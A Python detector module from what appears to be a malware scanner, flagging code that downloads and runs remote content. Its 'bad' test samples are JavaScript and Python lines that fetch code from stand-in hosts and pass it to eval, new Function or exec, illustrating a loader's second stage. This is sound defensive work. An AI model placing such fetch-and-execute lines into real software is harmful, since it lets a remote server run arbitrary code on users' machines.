"""Code that runs what it has just downloaded: `eval(response.data)`, `new Function(body)`,
`exec(urlopen(url).read())`, the second stage of most loaders whatever hides the URL."""

from __future__ import annotations

from collections.abc import Iterator

from heistguard.artifacts.detectors.base import Detector, Sample, ScanContext, Target, is_js, is_python
from heistguard.artifacts.detectors.flow import js_remote_exec, py_remote_exec
from heistguard.findings import Finding, Rule, Severity

RULE = Rule(
    id="artifacts.remote-code-exec",
    severity=Severity.HIGH,
    title="Code runs what it downloads",
    rationale="Fake coding tests and malicious packages keep their real payload on a server and run it as it "
    "arrives (`axios.get(u).then(r => eval(r.data))`, `exec(urlopen(u).read())`), so the repo itself "
    "looks almost clean and the payload can change per victim. Honest code installs what it needs "
    "ahead of time and does not eval network responses.",
    attack=("T1105", "T1059.007", "T1059.006"),
    references=(
        "https://unit42.paloaltonetworks.com/north-korean-threat-actors-lure-tech-job-seekers-as-fake-recruiters/",
    ),
)


def _check(target: Target, ctx: ScanContext) -> Iterator[Finding]:
    flows = py_remote_exec(target.text) if is_python(target) else js_remote_exec(target.text)
    for flow in flows:
        yield RULE.finding(f"{target.name} runs code it downloads", [target.evidence(flow.offset)])
        return


DETECTOR = Detector(
    rule=RULE,
    applies=lambda t: is_js(t) or is_python(t),
    check=_check,
    triggers=(b"eval", b"Function(", b"vm.run", b"_compile(", b"exec"),
    bad=(
        Sample(
            "app/routes/auth.js",
            b"const axios = require('axios');\n"
            b"axios.get('https://api.example.invalid/icons/5f2').then((res) => {\n  eval(res.data.cookie);\n});\n",
        ),
        Sample(
            "server/index.js",
            b"require('https').get(process.env.DEV_API, (r) => { let b = ''; r.on('data', (c) => (b += c));\n"
            b"  r.on('end', () => new Function('require', b)(require)); });\n",
        ),
        Sample(
            "run.py", b"import urllib.request\nexec(urllib.request.urlopen('https://x.example.invalid/s').read())\n"
        ),
        Sample(
            "stage.py",
            b"import requests\ndef go(u):\n    code = requests.get(u).text\n    exec(compile(code, 'x', 'exec'))\n",
        ),
    ),
    good=(
        Sample("client.js", b"fetch('/api/items').then((r) => r.json()).then((items) => render(items));\n"),
        Sample("dev.js", b"fetch(url);\nconst f = eval('1 + 1');\n"),
        Sample("cfg.py", b"import json, requests\nconfig = json.loads(requests.get(URL).text)\nexec('pass')\n"),
    ),
)
